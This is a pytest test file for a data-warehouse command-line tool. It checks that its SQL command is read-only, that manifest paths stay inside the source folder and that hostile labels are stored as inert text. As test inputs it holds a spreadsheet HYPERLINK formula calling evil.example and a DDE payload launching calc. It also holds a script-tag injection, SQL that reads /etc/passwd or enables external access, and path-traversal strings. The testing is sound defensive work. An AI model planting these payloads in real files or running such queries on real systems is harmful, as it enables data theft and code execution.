@@ -1,0 +1,157 @@
+"""`dwi sql` is read-only; manifest paths cannot leave raw/; hostile labels stay inert text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from dwi import stages
+from dwi.errors import DwiError
+from dwi.manifest import load_manifest
+from dwi.query import run_query
+
+DWI = str(Path(sys.executable).parent / "dwi")
+HOSTILE_REGION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+HOSTILE_NOTE = "<script>alert(1)</script>"
+HOSTILE_INDICATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture(scope="module")
+def warehouse(tmp_path_factory) -> Path:
+    base = tmp_path_factory.mktemp("secure")
+    raw = base / "raw"
+    raw.mkdir()
+    (raw / "obs.csv").write_text(
+        "indicator_code,region,sex,year,period,value,unit,obs_status,source_ref,note\n"
+        f'EMP_TOTAL,Kazakhstan,T,2011,Y,8301600,persons,,"{HOSTILE_NOTE}","{HOSTILE_NOTE}"\n'
+        f'EMP_TOTAL,"{HOSTILE_REGION.replace(chr(34), chr(34) * 2)}",T,2011,Y,1,persons,,x,\n'
+        f'"{HOSTILE_INDICATOR}",Kazakhstan,T,2011,Y,1,persons,,x,\n',
+        encoding="utf-8",
+    )
+    (raw / "manifest.yaml").write_text(
+        "sources:\n  - {id: obs, path: obs.csv, format: observations, "
+        f"title: '{HOSTILE_NOTE}', coverage: complete}}\n",
+        encoding="utf-8",
+    )
+    stages.run(raw, base / "wh.duckdb")
+    return base / "wh.duckdb"
+
+
+REFUSED = {
+    "insert": "INSERT INTO _loads SELECT * FROM _loads",
+    "update": "UPDATE _observations SET value = 0",
+    "delete": "DELETE FROM _observations",
+    "create": "CREATE TABLE t AS SELECT 1",
+    "drop": "DROP VIEW observations",
+    "alter": "ALTER TABLE _loads ADD COLUMN x INT",
+    "attach": "ATTACH '/tmp/other.duckdb' AS other",
+    "detach": "DETACH memory",
+    "install": "INSTALL httpfs",
+    "load": "LOAD httpfs",
+    "copy_to": "COPY (SELECT * FROM observations) TO '/tmp/dwi-leak.csv'",
+    "copy_from": "COPY _loads FROM '/etc/passwd'",
+    "export": "EXPORT DATABASE '/tmp/dwi-export'",
+    "pragma": "PRAGMA enable_external_access",
+    "set": "SET enable_external_access = true",
+    "reset": "RESET enable_external_access",
+    "two_statements": "SELECT 1; SELECT 2",
+    "select_then_drop": "SELECT 1; DROP VIEW observations",
+    "read_csv": "SELECT * FROM read_csv('/etc/passwd')",
+    "read_csv_auto": "SELECT * FROM read_csv_auto('/etc/passwd')",
+    "read_text": "SELECT * FROM read_text('/etc/passwd')",
+    "read_blob": "SELECT * FROM read_blob('/etc/hostname')",
+    "glob": "SELECT * FROM glob('/etc/*')",
+    "replacement_scan": "SELECT * FROM '/etc/passwd'",
+    "parquet": "SELECT * FROM read_parquet('/tmp/x.parquet')",
+    "url": "SELECT * FROM read_csv('https://example.com/x.csv')",
+    "set_in_cte": "WITH x AS (SELECT set_config('enable_external_access', 'true')) SELECT * FROM x",
+    "call": "CALL pragma_version()",
+}
+
+
+@pytest.mark.parametrize("query", REFUSED.values(), ids=REFUSED.keys())
+def test_sql_refuses(query, warehouse):
+    with pytest.raises(DwiError) as err:
+        run_query(warehouse, query)
+    assert err.value.exit_code == 2
+    assert str(err.value).startswith(("refused", "SQL error"))
+    assert not Path("/tmp/dwi-leak.csv").exists()
+
+
+def test_sql_cli_refusals_exit_2_with_one_line(warehouse):
+    for query in (REFUSED["copy_to"], REFUSED["read_text"], REFUSED["attach"], REFUSED["two_statements"]):
+        proc = subprocess.run(
+            [DWI, "sql", query, "--warehouse", str(warehouse)],
+            capture_output=True,
+            text=True,
+            timeout=60,
+            env={"PATH": os.environ["PATH"], "COLUMNS": "300"},
+        )
+        assert proc.returncode == 2, (query, proc.stderr)
+        assert proc.stderr.startswith("error: refused") or proc.stderr.startswith("error: SQL error")
+        assert "Traceback" not in proc.stderr and proc.stdout == ""
+    counts = run_query(warehouse, "SELECT count(*) AS n FROM loads").row(0)
+    assert counts == (1,)  # nothing was written
+
+
+def test_sql_still_answers_queries(warehouse):
+    assert run_query(
+        warehouse, "SELECT value FROM observations WHERE region_code = 'KZ' AND indicator_code = 'EMP_TOTAL'"
+    ).row(0) == (8301600.0,)
+
+
+def test_hostile_labels_are_quarantined_or_stored_as_inert_text(warehouse):
+    issues = run_query(warehouse, 'SELECT "column", "check", value FROM quality_issues ORDER BY "row"')
+    # an unknown region or indicator is never invented: the rows are quarantined, their text kept verbatim
+    assert issues.rows() == [
+        ("region", "known_region", HOSTILE_REGION),
+        ("indicator_code", "known_indicator", HOSTILE_INDICATOR),
+    ]
+    note = run_query(warehouse, "SELECT note, source_ref FROM observations").row(0)
+    assert note == (HOSTILE_NOTE, HOSTILE_NOTE)
+
+
+def test_hostile_text_round_trips_through_csv_and_json_output(warehouse):
+    env = {"PATH": os.environ["PATH"]}
+    q = "SELECT value AS found FROM quality_issues UNION ALL SELECT note FROM observations ORDER BY 1"
+    out = subprocess.run(
+        [DWI, "sql", q, "--format", "csv", "--warehouse", str(warehouse)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=env,
+        check=True,
+    ).stdout
+    rows = [r["found"] for r in csv.DictReader(io.StringIO(out))]
+    # `dwi sql` output is data for programs: exact text, quoted by the CSV writer, never evaluated or altered.
+    # (Spreadsheet exports neutralise formulas; that is the exports' job, not this query output's.)
+    assert sorted(rows) == sorted([HOSTILE_REGION, HOSTILE_INDICATOR, HOSTILE_NOTE])
+    out = subprocess.run(
+        [DWI, "sql", q, "--format", "json", "--warehouse", str(warehouse)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=env,
+        check=True,
+    ).stdout
+    assert sorted(r["found"] for r in json.loads(out)) == sorted(rows)
+
+
+@pytest.mark.parametrize("path", ["../outside.csv", "/etc/passwd", "sub/../../outside.csv", "link.csv"])
+def test_manifest_paths_cannot_leave_the_source_folder(tmp_path, path):
+    raw = tmp_path / "raw"
+    raw.mkdir()
+    (tmp_path / "outside.csv").write_text("secret\n")
+    (raw / "sub").mkdir()
+    (raw / "link.csv").symlink_to(tmp_path / "outside.csv")
+    (raw / "manifest.yaml").write_text(f"sources:\n  - {{id: x, path: '{path}', format: observations}}\n")
+    with pytest.raises(DwiError, match="leaves the source folder") as err:
+        load_manifest(raw)
+    assert err.value.exit_code == 2
